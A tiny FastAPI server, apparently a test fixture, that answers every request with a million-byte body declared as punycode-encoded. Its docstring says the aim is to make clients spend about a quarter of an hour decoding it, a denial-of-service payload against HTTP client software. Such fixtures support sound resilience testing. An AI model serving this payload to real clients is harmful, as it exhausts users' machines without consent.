"""Attack: name a codec that takes a quarter of an hour for a body of this size."""

from fastapi import FastAPI, Response

app = FastAPI()


@app.api_route("/{path:path}", methods=["GET", "POST"])
async def answer(path: str):
    headers = {"content-type": "text/plain; charset=punycode"}
    return Response(b"a-" + b"z" * 1_000_000, 418, headers)
